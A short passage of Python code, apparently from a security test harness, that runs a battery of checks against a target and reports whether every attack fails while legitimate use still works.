        with findings.section(name):
            battery(target, findings, ctx.rng)
    return findings.verdict(
        "every attack fails and legitimate use works", "some attacks still get through"
    )
